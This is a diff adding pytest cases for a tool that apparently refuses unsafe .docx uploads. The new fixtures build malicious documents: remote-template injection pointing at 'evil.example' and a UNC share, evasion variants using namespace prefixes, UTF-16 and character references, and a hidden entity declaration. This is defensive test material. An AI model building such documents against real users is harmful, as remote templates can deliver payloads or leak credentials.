@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import re
 import struct
 import sys
 import zipfile
@@ -44,7 +45,14 @@ def encrypted(data: bytes) -> bytes:
 
 ZEROS = b"<x>" + b"0" * (30 << 20)
 MANY = {f"word/a{n}.xml": "" for n in range(5000)}
-REMOTE = relations(("t", "attachedTemplate", "https://evil.example/t.dotm", TEMPLATE))
+
+
+def template(target: str) -> str:
+    return relations(("t", "attachedTemplate", target, TEMPLATE))
+
+
+REMOTE = template("https://evil.example/t.dotm")
+PREFIXED = re.sub("<(/?)Rel", r"<\1x:Rel", REMOTE.replace("xmlns=", "xmlns:x="))
 STYLES = (("s", "styles", "styles.xml", ""),)
 ENTITY = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'
 CASES = {
@@ -53,6 +61,30 @@ CASES = {
     "too many parts": (docx(BODY, MANY), "太多了"),
     "a macro": (docx(BODY, {"word/vbaProject.bin": b"x"}), "带着宏"),
     "a remote template": (docx(BODY, {"word/_rels/settings.xml.rels": REMOTE}), "别的机器"),
+    "a remote template under a prefix": (
+        docx(BODY, {"word/_rels/settings.xml.rels": PREFIXED}),
+        "别的机器",
+    ),
+    "a remote template in UTF-16": (
+        docx(BODY, {"word/_rels/settings.xml.rels": REMOTE.encode("utf-16")}),
+        "别的机器",
+    ),
+    "a remote template with letters as numbers": (
+        docx(BODY, {"word/_rels/settings.xml.rels": REMOTE.replace("https:", "&#104;ttps:")}),
+        "别的机器",
+    ),
+    "a template on a share": (
+        docx(BODY, {"word/_rels/settings.xml.rels": template(r"file:///\\evil\t.dotm")}),
+        "别的机器",
+    ),
+    "an entity behind a long comment": (
+        docx(BODY, {"word/settings.xml": ENTITY.replace("<!D", f"<!--{'x' * 9000}--><!D")}),
+        "实体声明",
+    ),
+    "relations without end": (
+        docx(BODY, {"word/_rels/a.xml.rels": "<a>" + hex(7**4_000_000)}),
+        "压缩炸弹",
+    ),
     "an entity": (docx(BODY, {"word/settings.xml": ENTITY}), "实体声明"),
     "a password": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "加了密码"),
     "a password on the archive": (encrypted(docx(BODY)), "加了密码"),
@@ -79,6 +111,15 @@ def test_it_is_refused_with_a_reason_and_nothing_is_written(desk, name):
     assert words in result.output
     assert "改法：" in result.output
     assert list((desk.root / "cases").iterdir()) == []
+
+
+@pytest.mark.parametrize(
+    "target",
+    [r"file:///C:\Users\甲\Normal.dotm", "Normal.dotm", r"C:\a.dotm", r"file://C:\a.dotm", "../a"],
+)
+def test_a_template_of_the_writers_own_machine_is_no_harm(desk, target):
+    content = docx(BODY, {"word/_rels/settings.xml.rels": template(target)})
+    assert desk.run(desk.put("稿.docx", content)).exit_code == 0
 
 
 def test_a_bomb_beside_good_files_does_not_stop_them(desk):
